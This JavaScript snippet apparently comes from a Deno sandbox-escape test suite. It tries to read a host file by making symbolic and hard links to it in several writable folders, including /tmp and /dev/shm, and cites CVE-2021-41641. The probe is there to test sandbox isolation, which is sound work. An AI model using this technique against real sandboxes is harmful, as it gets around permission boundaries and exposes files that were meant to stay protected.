// Tries: symbolic and hard links to a file of the host, made somewhere writable and read through.
// Origin: Deno CVE-2021-41641 (symbolic links).

const found = [];
for (const folder of [input.directory, "/tmp", "/dev/shm", "/guest", "/"]) {
  for (const link of [Deno.symlinkSync, Deno.linkSync]) {
    const path = `${folder}/link-${link.name}-${input.shm}`;
    try {
      link(input.file, path);
      found.push(Deno.readTextFileSync(path));
      if (folder !== input.directory) Deno.removeSync(path);
    } catch (error) {
      found.push(`${error}`);
    }
  }
}
return found;
